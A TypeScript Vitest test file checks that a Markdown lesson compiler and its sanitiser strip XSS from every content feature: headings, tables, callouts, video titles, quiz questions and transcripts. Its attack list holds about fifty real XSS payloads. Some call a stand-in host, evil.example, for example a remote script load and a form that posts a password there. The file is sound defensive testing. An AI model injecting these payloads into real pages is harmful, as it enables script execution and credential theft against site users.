import { expect, it } from 'vitest';
import { aLesson, aSource } from '../../../tests/support/a-source.ts';
import type { CompiledLesson, CompiledQuestion } from '../items.ts';
import { readContent } from './read-content.ts';
import { sanitise } from './sanitise.ts';

const attacks = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'<img src=x onerror=alert(1)>',
	'<img src="javascript:alert(1)">',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src="javascript:alert(1)">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="JaVaScRiPt:alert(1)">x</a>',
	'<a href="&#106;avascript:alert(1)">x</a>',
	'<a href="java\tscript:alert(1)">x</a>',
	'<a href="data:text/html,<script>alert(1)</script>">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<form action="https://evil.example"><input name=password><button>Gửi</button></form>',
	'<input autofocus onfocus=alert(1)>',
	'<body onload=alert(1)>',
	'<style>*{background:url(https://evil.example)}</style>',
	'<p style="background:url(javascript:alert(1))">x</p>',
	'<link rel=stylesheet href=https://evil.example/x.css>',
	'<meta http-equiv=refresh content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<video src=x onerror=alert(1)></video>',
	'<video><source onerror="alert(1)"></video>',
	'<audio src=x onerror=alert(1)>',
	'<details open ontoggle=alert(1)>x</details>',
	'<marquee onstart=alert(1)>x</marquee>',
	'<div onclick="alert(1)" class="call" id="noi-dung">x</div>',
	'"><script>alert(1)</script>',
	"'><img src=x onerror=alert(1)>",
	'<<script>alert(1)//<</script>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<template><script>alert(1)</script></template>',
	'<textarea><script>alert(1)</script></textarea>',
	'<xmp><img src=x onerror=alert(1)></xmp>',
	'<!--><script>alert(1)</script-->',
	'[x](javascript:alert(1))',
	'[x](<javascript:alert(1)>)',
	'[x](&#x6A;avascript:alert(1))',
	'[x](java%0ascript:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD4=)',
	'[x](//evil.example/x)',
	'[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
	'![x](javascript:alert(1))',
	'![x](https://evil.example/x.png)',
	'![x" onerror="alert(1)](../../../media/tranh.svg "y\\" onload=\\"alert(1)")',
	'<javascript:alert(1)>',
	'[x]: javascript:alert(1)\n\n[x]'
];

/** The features that carry text, each with a hole for it. */
const features: Record<string, (text: string) => string> = {
	paragraph: (text) => text,
	heading: (text) => `## ${oneLine(text)}`,
	'heading id': (text) => `## Một {#${oneLine(text)}}`,
	list: (text) => `- ${oneLine(text)}`,
	table: (text) => `| a | b |\n| --- | --- |\n| ${oneLine(text)} | x |`,
	quote: (text) => `> ${oneLine(text)}`,
	code: (text) => `\`${oneLine(text)}\`\n\n\`\`\`${oneLine(text)}\n${text}\n\`\`\``,
	callout: (text) => `:::meo[${oneLine(text)}]\n${text}\n:::`,
	'callout with brackets kept apart': (text) => `:::lua-dao[${oneLine(text).replace(/[[\]]/g, '')}]\nMột.\n:::`,
	'unknown directive': (text) => `:::${oneLine(text)}\n${text}\n:::`,
	steps: (text) => `:::cac-buoc\n1. **${oneLine(text)}** ${oneLine(text)}\n:::`,
	'picture text': (text) => `![${oneLine(text)}](../../../media/tranh.svg "${oneLine(text)}")`,
	'link text': (text) => `[${oneLine(text)}](https://ok.example)`,
	film: (text) =>
		`::video{src="../../../media/phim.mp4" title='${oneLine(text)}' captions="../../../media/phim.vtt" transcript="../../../media/loi.md"}`,
	question: (text) =>
		`:::hoi{#moi skill="p4.2" level="easy"}\n${oneLine(text)}\n\n- [x] ${oneLine(text)}\n  ${oneLine(text)}\n- [ ] Hai ${oneLine(text)}\n  Vì hai.\n:::`
};

const oneLine = (text: string) => text.replace(/\n/g, ' ');

/** Every HTML string that the content folder with this text in it would show. */
function shown(changes: Record<string, string>): string[] {
	const items = readContent(aSource(changes)).files.flatMap((file) => file.items);
	return items.flatMap(({ kind, compiled }) => {
		if (kind === 'lesson')
			return (compiled as CompiledLesson).parts.map((part) => (part.kind === 'html' ? part.html : ''));
		if (kind !== 'question') return [];
		const { stem, options } = compiled as CompiledQuestion;
		return [stem, ...options.flatMap((option) => [option.text, option.explanation])];
	});
}

const elements = [
	'p',
	'h2',
	'ul',
	'ol',
	'li',
	'blockquote',
	'pre',
	'code',
	'strong',
	'em',
	'del',
	'a',
	'br',
	'span',
	'aside',
	'div'
];
const pictures = ['figure', 'figcaption', 'img', 'video', 'audio', 'source', 'track', 'details', 'summary'];
const tables = ['table', 'thead', 'tbody', 'tr', 'th', 'td'];
const allowed = new Set([...elements, ...pictures, ...tables]);
const attributes = new Set(
	'id class href rel src alt width height loading decoding controls preload aria-label aria-labelledby kind srclang label default type tabindex role scope align start'.split(
		' '
	)
);

const tag = /<\/?([a-zA-Z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/g;

/** Reads tags the way a browser does, quotes included, and tells what should not be there. */
function harmIn(html: string): string[] {
	const harm: string[] = [];
	for (const [, name = '', inside = ''] of html.matchAll(tag)) {
		if (!allowed.has(name)) harm.push(`<${name}>`);
		harm.push(...harmInAttributes(name, inside));
	}
	// Nothing may be left that only looks like text to this reader.
	return html.replace(tag, '').includes('<') ? [...harm, 'a tag that is not closed'] : harm;
}

function harmInAttributes(name: string, inside: string): string[] {
	return [...inside.matchAll(/([^\s=/"']+)(?:\s*=\s*"([^"]*)")?/g)].flatMap(([, attribute = '', value = '']) => {
		if (!attributes.has(attribute)) return [`${name}[${attribute}]`];
		if (attribute === 'href' && !/^(https?:\/\/|tel:|sms:|mailto:|\/(?!\/)|#)/.test(value)) return [value];
		return attribute === 'src' && !/^\/media\/[a-z0-9.-]+$/.test(value) ? [value] : [];
	});
}

/** Each text in a lesson of its own, all in one folder: text and what harm came of it. */
function harms(texts: readonly string[], lesson: (text: string) => string, transcript = ''): string[] {
	const lessons = texts.map((text, i) => [`courses/khoa/lessons/${i}.md`, aLesson(lesson(text))] as const);
	const html = shown({ ...Object.fromEntries(lessons), ...(transcript && { 'media/loi.md': transcript }) });
	expect(html.length).toBeGreaterThan(texts.length);
	return html.flatMap((each) => harmIn(each).map((harm) => `${harm} in ${each}`));
}

it.each(Object.keys(features))('nothing harmful comes out of a %s', (name) => {
	expect(harms(attacks, features[name] ?? String)).toEqual([]);
});

it('nothing harmful comes out of a transcript', () => {
	const body = '::audio{src="../../../media/tieng.mp3" title="A" transcript="../../../media/loi.md"}';
	expect(harms(['Một.'], () => body, attacks.join('\n\n'))).toEqual([]);
	for (const attack of attacks) expect(harms(['Một.'], () => body, attack)).toEqual([]);
});

it.each(attacks)('straight through the last gate: %s', (attack) => {
	expect(harmIn(sanitise(attack))).toEqual([]);
});

it('lets no class through that it does not make itself', () => {
	expect(
		sanitise('<p class="call-title hack">x</p><aside class="call evil">y</aside><a class="btn" href="/x">z</a>')
	).toBe('<p class="call-title">x</p><aside class="call">y</aside><a href="/x">z</a>');
});
